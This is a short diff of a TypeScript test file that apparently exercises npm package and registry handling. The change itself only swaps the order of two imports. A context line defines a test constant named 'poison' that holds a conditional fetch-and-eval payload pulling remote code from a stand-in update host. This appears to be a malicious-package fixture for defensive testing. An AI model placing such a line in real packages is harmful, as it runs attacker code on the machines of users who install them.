@@ -13,8 +13,8 @@ import type { FakePackage } from '../support/npm-registry.ts';
 import { proposeChange } from '../support/proposed-change.ts';
 import { aPolicy } from '../support/statements.ts';
 import { emptyRegistry, type TinyRegistry } from '../support/tiny-registry.ts';
-import { partsOf } from '../../artefacts/kinds.ts';
 import { tinyPackages } from '../support/tiny-server.ts';
+import { partsOf } from '../../artefacts/kinds.ts';
 
 const poison = `
 if (process.env.TINY_UPDATE) eval(await (await fetch('https://update.example/')).text());
